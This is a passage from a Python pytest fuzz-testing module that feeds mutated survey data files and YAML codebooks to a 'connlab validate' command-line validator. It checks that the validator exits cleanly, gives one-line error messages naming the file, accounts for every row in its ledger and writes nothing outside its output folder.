            mutations.append(f"{target}: {_rows_mutation(rng, rows[target])}")
        quoted = rng.random() < 0.85
        encoded = {name: _encode_rows(r, seed, quoted=quoted or name != target) for name, r in rows.items()}
        if not quoted:
            mutations.append(f"{target}: written without quoting")
        for _ in range(n_bytes):
            encoded[target], what = _byte_mutation(rng, encoded[target])
            mutations.append(f"{target}: {what}")
        invocation = rng.choices(["file", "folder", "codebook_as_data", "no_codebook"], weights=[60, 8, 4, 28])[0]
        if invocation == "no_codebook" and len(rows) > 1:
            invocation = "file"
        if invocation == "file" and len(rows) == 1 and rng.random() < 0.1:
            new = rng.choice(["survey.txt", "survey.tsv", "survey.xlsx", "survey.sav", "survey.dta", "survey",
                              "sür vey.csv", "survey.CSV"])  # fmt: skip
            encoded = {new: encoded.pop(seed.main)}
            mutations.append(f"data file renamed {seed.main} -> {new}")
            data_name = new
    else:
        encoded = {name: _encode_rows(r, seed) for name, r in rows.items()}
        default_write = False
        for _ in range(rng.choice([1, 1, 1, 2, 3])):
            what, default = _spec_mutation(rng, spec, case_dir)
            mutations.append(f"codebook: {what}")
            default_write |= default
        try:
            text = _codebook_text(spec)
        except Exception as exc:
            mutations.append(f"codebook: (not dumpable: {type(exc).__name__}; seed codebook used)")
            text = _codebook_text(seed.codebook)
        cb_bytes = text.encode("utf-8")
        if rng.random() < 0.45:
            text, what = _text_mutation(rng, text)
            mutations.append(f"codebook text: {what}")
            cb_bytes = text.encode("utf-8", errors="surrogateescape")
            if what.startswith("no-op (bytes"):
                for _ in range(rng.choice([1, 2])):
                    cb_bytes, what = _byte_mutation(rng, cb_bytes)
                    mutations.append(f"codebook bytes: {what}")
        if default_write and rng.random() < 0.8:
            write = "default"
        invocation = rng.choices(["file", "folder"], weights=[85, 15])[0]
    if cb_bytes is None:
        cb_bytes = _codebook_text(spec).encode("utf-8")
    files = dict(encoded)
    codebook: str | None = cb_name
    if invocation in ("folder", "codebook_as_data"):
        cb_name = "codebook.yaml"
        codebook = None
        data_name = "" if invocation == "folder" else cb_name
        mutations.append("--data names the " + ("folder" if invocation == "folder" else "codebook file"))
    if invocation == "no_codebook":
        codebook = None
        mutations.append("no codebook (types inferred)")
    else:
        files[cb_name] = cb_bytes
    if write == "default" and not hasattr(dataset_module, "PROCESSED_DIR"):
        write = "dir"  # the default folder cannot be moved into tmp: never write into the repository
    return Case(number, kind, seed.name, mutations, files, data_name, codebook, strict, write,
                table_files=[str(t.get("file")) for t in seed.codebook["tables"].values()])  # fmt: skip


# ------------------------------------------------------------------------------ running a case
class _CaseTimeout(BaseException):
    """Raised by the alarm in a case that runs too long (not an Exception: the CLI must not catch it)."""


@dataclass
class Failure:
    number: int
    kind: str  # the failure kind (grouping key)
    mutations: list[str]
    code: int | None
    output: str
    detail: str = ""
    where: str = ""


@dataclass
class Outcome:
    code: int | None
    out: str
    err: str
    seconds: float
    loads: list = field(default_factory=list)  # (Dataset or None, exception or None, kwargs) of each load
    escaped: BaseException | None = None
    warnings: list[str] = field(default_factory=list)


def _argv(case: Case, folder: Path, out: Path) -> list[str]:
    argv = ["validate", "--data", str(folder / case.data) if case.data else str(folder)]
    if case.codebook is not None:
        argv += ["--codebook", str(folder / case.codebook)]
    if case.strict:
        argv.append("--strict")
    if case.write == "dir":
        argv += ["--write", str(out)]
    elif case.write == "default":
        argv.append("--write")
    return argv


def _snapshot(root: Path) -> dict[str, tuple[int, int]]:
    found = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in filenames + dirnames:
            p = Path(dirpath) / name
            with contextlib.suppress(OSError):
                st = p.lstat()
                found[str(p)] = (st.st_size, st.st_mtime_ns)
    return found


@contextlib.contextmanager
def _alarm(seconds: float):
    if not hasattr(signal, "setitimer"):
        yield
        return

    def _stop(signum, frame):
        raise _CaseTimeout(f"case ran longer than {seconds:.0f} s")

    previous = signal.signal(signal.SIGALRM, _stop)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def _run_main(argv: list[str], monkeypatch, processed: Path) -> Outcome:
    """Run `main(argv)` in-process; capture output, warnings and each load_dataset result."""
    loads: list = []
    real = dataset_module.load_dataset

    def recording_load(*args, **kwargs):
        try:
            ds = real(*args, **kwargs)
        except BaseException as exc:
            loads.append((None, exc, kwargs))
            raise
        loads.append((ds, None, kwargs))
        return ds

    out, err = io.StringIO(), io.StringIO()
    code, escaped = None, None
    start = time.perf_counter()
    with monkeypatch.context() as mp, warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        mp.setattr(dataset_module, "load_dataset", recording_load)
        if hasattr(dataset_module, "PROCESSED_DIR"):
            mp.setattr(dataset_module, "PROCESSED_DIR", processed)
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                with _alarm(CASE_TIMEOUT):
                    code = main(argv)
            except _CaseTimeout as exc:
                escaped = exc
            except BaseException as exc:
                escaped = exc
    seconds = time.perf_counter() - start
    seen = [f"{w.category.__name__}: {str(w.message)[:120]}" for w in caught]
    return Outcome(code, out.getvalue(), err.getvalue(), seconds, loads, escaped, seen)


def _where(exc: BaseException) -> str:
    """`Type @ module.py:function` of the innermost frame in the analysis package (else the last frame)."""
    frames = traceback.extract_tb(exc.__traceback__)
    ours = [f for f in frames if f"{os.sep}analysis{os.sep}" in f.filename and "test_fuzz" not in f.filename]
    frame = ours[-1] if ours else (frames[-1] if frames else None)
    if frame is None:
        return type(exc).__name__
    rel = frame.filename.split(f"{os.sep}analysis{os.sep}", 1)[-1]
    last = frames[-1]
    inner = "" if last is frame else f" (raised in {Path(last.filename).name}:{last.name})"
    return f"{type(exc).__name__} @ {rel}:{frame.name} line {frame.lineno}{inner}"


def _where_key(where: str) -> str:
    return re.sub(r" line \d+", "", where)


def _debug_exception(argv: list[str], monkeypatch, processed: Path) -> BaseException | None:
    """Rerun with --debug: the exception an internal error hides (None if it does not recur)."""
    with monkeypatch.context() as mp, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        if hasattr(dataset_module, "PROCESSED_DIR"):
            mp.setattr(dataset_module, "PROCESSED_DIR", processed)
        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
            try:
                with _alarm(CASE_TIMEOUT):
                    main(["--debug", *argv])
            except BaseException as exc:
                return exc
    return None


_INT = re.compile(r"^\s*[-+]?\d{1,15}\s*$")


def _file_records(path: Path, fmt) -> tuple[list[int], list[list[str]]] | None:
    """Start line and fields of each data record of a text file, counted with the csv module."""
    if fmt.kind not in ("csv", "qualtrics"):
        return None
    text = path.read_bytes().decode(fmt.encoding)
    if "\r" in text and "\n" not in text:
        text = text.replace("\r", "\n")
    first = text.split("\n", 1)[0].strip()
    hint = 0
    if first.lower().startswith("sep=") and len(first) == 5:
        text, hint = (text.split("\n", 1)[1] if "\n" in text else ""), 1
    limit = csv.field_size_limit(1 << 30)
    starts, records = [], []
    try:
        reader = csv.reader(io.StringIO(text, newline=""), delimiter=fmt.sep)
        previous_end = 0
        for row in reader:
            start, previous_end = previous_end + 1, reader.line_num
            if not row or (len(row) == 1 and not row[0].strip()):
                continue
            starts.append(start + hint)
            records.append(row)
    finally:
        csv.field_size_limit(limit)
    return starts[fmt.header_rows :], records  # records[0] is the header


def _check_ledger(ledger: pd.DataFrame, report: str, expect_tables: list | None) -> list[tuple[str, str]]:
    problems = []
    if ledger is None or not len(ledger):
        return [("ledger: empty", "no row in the ledger")]
    bad_status = set(ledger["status"]) - {"analysed", "excluded"}
    if bad_status:
        problems.append(("ledger: unknown status", f"statuses {sorted(map(str, bad_status))}"))
    if expect_tables is not None and list(dict.fromkeys(ledger["table"])) != list(expect_tables):
        problems.append(("ledger: tables differ from the data set's",
                         f"ledger {list(dict.fromkeys(ledger['table']))}, data set {list(expect_tables)}"))  # fmt: skip
    for table, part in ledger.groupby("table", sort=False):
        n = len(part)
        if part["row"].tolist() != list(range(1, n + 1)):
            problems.append(("ledger: rows not numbered 1..n", f"table {table!r}: {part['row'].tolist()[:10]}"))
        excluded, analysed = part[part["status"] == "excluded"], part[part["status"] == "analysed"]
        if len(analysed) + len(excluded) != n:
            problems.append(("ledger: rows read != analysed + excluded",
                             f"table {table!r}: {n} != {len(analysed)} + {len(excluded)}"))  # fmt: skip
        if not excluded["reason"].isin(list(EXCLUSION_REASONS)).all():
            problems.append(("ledger: excluded row without a known reason",
                             f"table {table!r}: {excluded['reason'].tolist()[:5]}"))  # fmt: skip
        if not analysed["reason"].isna().all():
            problems.append(("ledger: analysed row with a reason", f"table {table!r}"))
        head = f"  {table}: rows read {n:,}"
        at = report.find(head)
        if at < 0:
            problems.append(("report: ledger line missing or wrong", f"{head!r} not in the report"))
        else:
            rest = report[at + len(head) :].split("\n", 1)[0]
            if not rest.endswith(f"analysed {len(analysed):,}"):
                problems.append(("report: ledger line missing or wrong",
                                 f"table {table!r}: {rest!r} does not end 'analysed {len(analysed):,}'"))  # fmt: skip
    return problems


def _check_against_files(ds, id_columns: dict, kept: bool = True) -> list[tuple[str, str]]:
    """The data set's tables (when `kept`: loaded with their rows), files and ledger agree with the
    files counted independently."""
    problems = []
    rows_by_table = {f.table: f for f in ds.files if f.table != "codebook"}
    for table, part in ds.ledger.groupby("table", sort=False):
        n = len(part)
        analysed = part[part["status"] == "analysed"]["row"].tolist()
        excluded = part[part["status"] == "excluded"]["row"].tolist()
        tf = rows_by_table.get(table)
        if tf is None or tf.rows != n:
            problems.append(("ledger: rows read != reader's row count",
                             f"table {table!r}: ledger {n}, file {tf.rows if tf else None}"))  # fmt: skip
        if kept and table in ds.tables and ds.tables[table].index.tolist() != analysed:
            problems.append(("table rows != analysed rows of the ledger", f"table {table!r}"))
        if kept and table in ds.excluded and sorted(ds.excluded[table].index.tolist()) != excluded:
            problems.append(("excluded rows != excluded rows of the ledger", f"table {table!r}"))
        if tf is None or table not in ds.formats:
            continue
        try:
            counted = _file_records(Path(tf.path), ds.formats[table])
        except Exception as exc:
            problems.append(("file cannot be recounted", f"{type(exc).__name__}: {exc}"[:200]))
            continue
        if counted is None:
            continue
        starts, records = counted
        if len(starts) != n:
            problems.append(("ledger: rows read != data records in the file",
                             f"table {table!r}: ledger {n}, csv module {len(starts)}"))  # fmt: skip
            continue
        if part["line"].tolist() != starts:
            problems.append(("ledger: line numbers differ from the file's",
                             f"table {table!r}: ledger {part['line'].tolist()[:8]}, file {starts[:8]}"))  # fmt: skip
        header = [h.strip() for h in records[0]]
        id_col = id_columns.get(table)
        if id_col in header:
            k = header.index(id_col)
            body = records[ds.formats[table].header_rows :]
            for (_, row), rec in zip(part.iterrows(), body, strict=False):
                value = rec[k] if k < len(rec) else ""
                lid = row["id"]
                if lid is None or (not isinstance(lid, str) and pd.isna(lid)):
                    continue
                if _INT.match(value) and _INT.match(str(lid)) and int(value) != int(str(lid)):
                    problems.append(("ledger: id differs from the file's id on that line",
                                     f"table {table!r}, row {row['row']}: ledger id {lid!r}, "
                                     f"file {value!r}"))  # fmt: skip
                    break
    return problems


def _check_problems(problems: pd.DataFrame, ledger: pd.DataFrame, strict: bool) -> list[tuple[str, str]]:
    if problems is None or not len(problems):
        return []
    found = []
    keyed = ledger.set_index(["table", "row"])
    for p in problems.itertuples():
        key = (p.table, p.row)
        if key not in keyed.index:
            found.append(("problem names a row not in the ledger", f"{p.table!r} row {p.row}"))
            break
        led = keyed.loc[key]
        if int(led["line"]) != int(p.line):
            found.append(("problem line != ledger line", f"{p.table!r} row {p.row}: {p.line} vs {led['line']}"))
            break
        if strict and led["reason"] != "invalid_value":
            found.append(("strict: problem row not excluded as invalid_value", f"{p.table!r} row {p.row}"))
            break
    return found


def _input_names(case: Case, folder: Path, outputs: list[Path]) -> set[str]:
    """Names an exit-2 message may use to name the file: the input files and folder, the files the
    codebook names, and the output folders (an error writing a file names that file)."""
    names = {folder.name, *case.files, *case.table_files, *map(str, outputs)}
    for name in case.files:
        if name.endswith((".yaml", ".yml")):
            with contextlib.suppress(Exception):
                spec = yaml.safe_load(case.files[name].decode("utf-8"))
                for t in spec["tables"].values():
                    names.add(Path(str(t["file"])).name)
    return {n for n in names if n and n not in (".", "..")}


def run_case(case: Case, case_dir: Path, monkeypatch, *, verbose: bool = False) -> tuple[list[Failure], Outcome]:
    folder = case_dir / f"fuzzin_{case.number:04d}"
    folder.mkdir(parents=True)
    for name, content in case.files.items():
        (folder / name).write_bytes(content)
    out = case_dir / "w1" / "w2" / "out"
    processed = case_dir / "proj" / "data" / "processed"
    out.parent.mkdir(parents=True)
    processed.mkdir(parents=True)
    root = case_dir.parent
    argv = _argv(case, folder, out)
    before = _snapshot(root)
    result = _run_main(argv, monkeypatch, processed)
    after = _snapshot(root)
    text = result.out + result.err
    found: list[tuple[str, str]] = []
    where = ""

    def fail(kind: str, detail: str = "") -> None:
        found.append((kind, detail))

    if result.escaped is not None:
        exc = result.escaped
        if isinstance(exc, _CaseTimeout):
            fail(f"timeout (> {CASE_TIMEOUT:.0f} s)", "")
        else:
            where = _where(exc)
            fail(f"exception escaped main(): {_where_key(where)}", f"{type(exc).__name__}: {exc}"[:300])
    elif result.code not in (0, 1, 2):
        exc = next((e for _, e, _ in result.loads if e is not None and not isinstance(e, ValidationError)), None)
        if exc is None:
            exc = _debug_exception(argv, monkeypatch, processed)
        where = _where(exc) if exc is not None else "?"
        fail(f"exit {result.code}: {_where_key(where)}", result.err.strip()[:300])
    if "Traceback" in text:
        fail("'Traceback' in the output")
    if result.seconds > SLOW_CASE and result.escaped is None:
        fail(f"slow (> {SLOW_CASE:.0f} s)", f"{result.seconds:.1f} s")
    input_bytes = sum(len(b) for b in case.files.values())
    if len(text) > 100_000 + 20 * input_bytes:
        fail("output much larger than the input", f"{len(text):,} characters for {input_bytes:,} input bytes")
    if result.code == 2:
        message = result.err.strip()
        exc = next((e for _, e, _ in result.loads if e is not None), None)
        origin = f" ({_where_key(_where(exc))})" if exc is not None else ""
        where = _where(exc) if exc is not None else ""
        if not message.startswith("connlab validate: error: "):
            fail("exit 2 without 'connlab validate: error:'", message[:200])
        if "\n" in message:
            fail("exit 2: message is not one line" + origin, f"{message.count(chr(10)) + 1} lines")
        if len(message) > MAX_MESSAGE:
            fail(f"exit 2: message longer than {MAX_MESSAGE}" + origin, f"{len(message)} characters")
        names = _input_names(case, folder, [out, processed])
        if not any(n in message for n in names):
            fail("exit 2: message names no input file" + origin, message[:200])
    elif result.code in (0, 1):
        if "Row ledger (every row read is analysed or excluded):" not in result.out:
            fail("exit 0/1 without the row ledger")
        if result.code == 0 and "No problems" not in result.out:
            fail("exit 0 but the report does not say 'No problems'")
        if result.code == 1 and "problem(s)" not in result.out:
            fail("exit 1 without a list of problems")
        ds, exc, kwargs = next(iter(result.loads), (None, None, {}))
        if ds is None and exc is None:  # the CLI did not go through load_dataset: load it here
            try:
                ds = dataset_module.load_dataset(Path(argv[2]), codebook=argv[4] if case.codebook else None,
                                                 strict=case.strict)  # fmt: skip
            except ValidationError as e:
                exc = e
        if isinstance(exc, ValidationError):
            if not case.strict:
                fail("ValidationError in lenient mode")
            found += _check_ledger(exc.ledger, result.out, None)
            found += _check_problems(exc.problems, exc.ledger, True)
            lenient = _run_main([a for a in argv if a != "--strict" and a != "--write" and a != str(out)],
                                monkeypatch, processed)  # fmt: skip
            lds = next((d for d, _, _ in lenient.loads if d is not None), None)
            if lds is None:
                fail("strict mode lists problems but a lenient load fails", (lenient.out + lenient.err)[:200])
            else:
                counts = exc.ledger.groupby("table", sort=False).size().to_dict()
                if counts != lds.ledger.groupby("table", sort=False).size().to_dict():
                    fail("strict and lenient ledgers count different rows read")
                found += _check_against_files(lds, _id_columns(lds), lenient.loads[0][2].get("keep_tables", True))
        elif ds is not None:
            found += _check_ledger(ds.ledger, result.out, list(ds.tables))
            found += _check_problems(ds.problems, ds.ledger, False)
            found += _check_against_files(ds, _id_columns(ds), kwargs.get("keep_tables", True))
            if result.code == 0 and len(ds.problems):
                fail("exit 0 with problems in the data set")
        elif exc is not None:
            fail(f"exit {result.code} but load_dataset raised {type(exc).__name__}")
    # files: only the output folder may change
    allowed = [out] if case.write == "dir" else ([processed] if case.write == "default" else [])
    changed = sorted(p for p in set(after) | set(before) if before.get(p) != after.get(p))
    outside = [p for p in changed if not any(Path(p) == a or a in Path(p).parents for a in allowed)]
    outside = [p for p in outside if not any(Path(p) in a.parents for a in allowed)]  # the folders made on the way
    if outside:
        rel = [os.path.relpath(p, case_dir) for p in outside]
        fail("wrote outside the output folder", ", ".join(rel[:5]))
    for name, content in case.files.items():
        if (folder / name).read_bytes() != content:
            fail("an input file was modified", name)
    if verbose:
        print(f"\n=== case {case.number} ({case.kind}, seed {case.seed}): exit {result.code}, {result.seconds:.2f} s")
        print("argv:", argv)
        print("mutations:", *case.mutations, sep="\n  ")
        print("--- stdout\n" + result.out[:5000] + "\n--- stderr\n" + result.err[:5000])
        if result.warnings:
            print("--- warnings\n" + "\n".join(result.warnings[:20]))
        exc = next((e for _, e, _ in result.loads if e is not None), None) or result.escaped
        if result.code == 3:
            exc = _debug_exception(argv, monkeypatch, processed)
        if exc is not None:
            print("--- exception\n" + "".join(traceback.format_exception(exc))[-6000:])
    failures = [Failure(case.number, kind, case.mutations, result.code, text[:HEAD], detail, where)
                for kind, detail in found]  # fmt: skip
    return failures, result


def _id_columns(ds) -> dict:
    out = {}
    for table in ds.tables:
        with contextlib.suppress(Exception):
            out[table] = ds.role_column(table, "id")
    return out


def _save_failure(case: Case, failures: list[Failure], folder: Path, case_dir: Path, outcome: Outcome) -> Path:
    dest = folder / f"case_{case.number:04d}"
    if dest.exists():
        shutil.rmtree(dest)
    dest.mkdir(parents=True)
    for name, content in case.files.items():
        (dest / name).write_bytes(content)
    argv = _argv(case, dest, dest / "out")
    readme = [f"case {case.number} ({case.kind}, seed {case.seed})", "mutations:", *[f"  {m}" for m in case.mutations],
              "failures:", *[f"  {f.kind}: {f.detail}" for f in failures], f"exit {outcome.code}",
              "command:", "  connlab " + " ".join(f"'{a}'" if " " in a else a for a in argv),
              *(["  (--write without a folder writes to data/processed/<dataset>; the fuzzer had moved that folder "
                 "into its temporary folder: add a folder after --write to stay safe)"] if case.write == "default"
                else []),
              "output:", outcome.out[:3000], outcome.err[:3000]]  # fmt: skip
    (dest / "README.txt").write_text("\n".join(readme), encoding="utf-8", errors="backslashreplace")
    return dest


# ----------------------------------------------------------------------------------- the tests
def _knobs() -> tuple[int, int, list[int] | None]:
    total = int(os.environ.get("CONNLAB_FUZZ_CASES", DEFAULT_CASES))
    seed = int(os.environ.get("CONNLAB_FUZZ_SEED", DEFAULT_SEED))
    only = os.environ.get("CONNLAB_FUZZ_CASE")
    chosen = [int(c) for c in re.split(r"[,\s]+", only.strip()) if c] if only else None
    return total, seed, chosen


@pytest.mark.parametrize("seed", SEEDS, ids=[s.name for s in SEEDS])
def test_seeds_are_valid(seed, tmp_path, monkeypatch):
    """Unmutated, every seed validates with no problem (else the fuzzer mutates a broken file)."""
    folder = tmp_path / "seed"
    folder.mkdir()
    for name, rows in seed.tables.items():
        (folder / name).write_bytes(_encode_rows(rows, seed))
    (folder / "seed.cb.yaml").write_text(_codebook_text(seed.codebook), encoding="utf-8")
    result = _run_main(["validate", "--data", str(folder / seed.main), "--codebook", str(folder / "seed.cb.yaml")],
                       monkeypatch, tmp_path / "processed")  # fmt: skip
    assert result.code == 0, result.out + result.err
    ds = result.loads[0][0]
    assert list(ds.tables) == list(seed.codebook["tables"])
    assert _check_ledger(ds.ledger, result.out, list(ds.tables)) == []
    assert _check_against_files(ds, _id_columns(ds), result.loads[0][2].get("keep_tables", True)) == []


def test_the_checks_catch_a_broken_ledger(tmp_path, monkeypatch):
    """The fuzzer's ledger checks are not vacuous: a ledger that loses, renumbers or shifts rows fails them."""
    seed = SEEDS[0]
    for name, rows in seed.tables.items():
        (tmp_path / name).write_bytes(_encode_rows(rows, seed))
    (tmp_path / "seed.cb.yaml").write_text(_codebook_text(seed.codebook), encoding="utf-8")
    argv = ["validate", "--data", str(tmp_path / seed.main), "--codebook", str(tmp_path / "seed.cb.yaml")]
    result = _run_main(argv, monkeypatch, tmp_path / "processed")
    ds = result.loads[0][0]
    ids = _id_columns(ds)
    lost = ds.ledger.iloc[1:]
    assert {k for k, _ in _check_ledger(lost, result.out, list(ds.tables))} >= {
        "ledger: rows not numbered 1..n", "report: ledger line missing or wrong"}  # fmt: skip
    shifted = ds.ledger.assign(line=ds.ledger["line"] + 1)
    assert [k for k, _ in _check_against_files(replace(ds, ledger=shifted), ids, False)] == [
        "ledger: line numbers differ from the file's"]  # fmt: skip
    swapped = ds.ledger.assign(id=ds.ledger["id"].iloc[::-1].to_numpy())
    assert [k for k, _ in _check_against_files(replace(ds, ledger=swapped), ids, False)] == [
        "ledger: id differs from the file's id on that line"]  # fmt: skip
    unknown = ds.ledger.assign(status="excluded", reason="because")
    assert "ledger: excluded row without a known reason" in {k for k, _ in _check_ledger(unknown, "", None)}


def test_make_case_is_deterministic(tmp_path):
    for number in (0, 7, 299, 301, 449):
        a, b = make_case(number, DEFAULT_SEED, tmp_path), make_case(number, DEFAULT_SEED, tmp_path)
        assert (a.files, a.mutations, a.data, a.codebook, a.strict, a.write) == \
               (b.files, b.mutations, b.data, b.codebook, b.strict, b.write)  # fmt: skip


def test_fuzz_validate(tmp_path, monkeypatch):
    """CONNLAB_FUZZ_CASES seeded mutations of the seeds through `connlab validate`: no internal error, no traceback,
    one-line errors naming the file, every row read accounted for, nothing written outside the output folder."""
    total, seed_value, chosen = _knobs()
    numbers = chosen if chosen is not None else list(range(total))
    verbose = chosen is not None
    keep = Path(os.environ["CONNLAB_FUZZ_OUT"]) if os.environ.get("CONNLAB_FUZZ_OUT") else tmp_path / "failures"
    root = tmp_path / "fuzz"
    repo_processed = sorted(p.name for p in PROCESSED_DIR.iterdir()) if PROCESSED_DIR.is_dir() else []
    failures: list[Failure] = []
    codes: Counter = Counter()
    warned: Counter = Counter()
    saved: list[Path] = []
    start = time.perf_counter()
    for number in numbers:
        case_dir = root / "l1" / "l2" / f"case_{number:04d}"
        try:
            case = make_case(number, seed_value, case_dir)
            found, outcome = run_case(case, case_dir, monkeypatch, verbose=verbose)
        except Exception as exc:  # a bug of the fuzzer itself: report it with the others, go on
            failures.append(Failure(number, f"fuzzer error: {_where_key(_where(exc))}", [], None, "",
                                    f"{type(exc).__name__}: {exc}"[:300], _where(exc)))  # fmt: skip
            shutil.rmtree(case_dir, ignore_errors=True)
            continue
        codes[outcome.code] += 1
        warned.update({w.split(":")[0] + ": " + w.split(":", 1)[1][:70].strip() for w in outcome.warnings})
        if found:
            failures += found
            saved.append(_save_failure(case, found, keep, case_dir, outcome))
        shutil.rmtree(case_dir, ignore_errors=True)
    seconds = time.perf_counter() - start
    now = sorted(p.name for p in PROCESSED_DIR.iterdir()) if PROCESSED_DIR.is_dir() else []
    exits = dict(sorted(codes.items(), key=str))
    n_cb = sum(_kind(n) == "codebook" for n in numbers)
    summary = (f"{len(numbers)} fuzz cases (seed {seed_value}: {len(numbers) - n_cb} data, {n_cb} codebook) in "
               f"{seconds:.1f} s; exit codes {exits}")  # fmt: skip
    print("\n" + summary)
    if warned:
        print("warnings seen (not failures):", *[f"  {n} x {w}" for w, n in warned.most_common(10)], sep="\n")
    assert now == repo_processed, f"the fuzz run wrote into {PROCESSED_DIR}: {sorted(set(now) - set(repo_processed))}"
    if failures:
        pytest.fail(_failure_report(failures, summary, keep, seed_value), pytrace=False)


def _failure_report(failures: list[Failure], summary: str, keep: Path, seed_value: int) -> str:
    by_kind: dict[str, list[Failure]] = {}
    for f in failures:
        by_kind.setdefault(f.kind, []).append(f)
    cases = sorted({f.number for f in failures})
    lines = [f"{len(cases)} failing case(s), {len(by_kind)} kind(s). {summary}", "", "Kinds (count, cases, example):"]
    for kind, group in sorted(by_kind.items(), key=lambda kv: -len(kv[1])):
        numbers = sorted({f.number for f in group})
        ex = group[0]
        shown = ", ".join(map(str, numbers[:12])) + (" ..." if len(numbers) > 12 else "")
        lines.append(f"* {kind}: {len(numbers)} case(s) [{shown}]")
        lines.append(f"    e.g. case {ex.number}: {' | '.join(ex.mutations)}")
        if ex.where:
            lines.append(f"    at {ex.where}")
        if ex.detail:
            lines.append(f"    {ex.detail[:300]!r}")
    lines += ["", "Failing cases (case: mutations -> exit code: output):"]
    for number in cases[:100]:
        fs = [f for f in failures if f.number == number]
        lines.append(f"  {number}: {' | '.join(fs[0].mutations)} -> exit {fs[0].code}: {fs[0].output[:HEAD]!r}")
        lines.append(f"      failed: {'; '.join(f.kind for f in fs)}")
    if len(cases) > 100:
        lines.append(f"  ... and {len(cases) - 100} more")
    env = f"CONNLAB_FUZZ_SEED={seed_value} "
    lines += ["", f"Inputs of the failing cases (README.txt: mutations, command, output): {keep}",
              f"Rerun one case with its full output and traceback: {env}CONNLAB_FUZZ_CASE={cases[0]} "
              ".venv/bin/pytest tests/test_fuzz.py::test_fuzz_validate -s"]  # fmt: skip
    return "\n".join(lines)
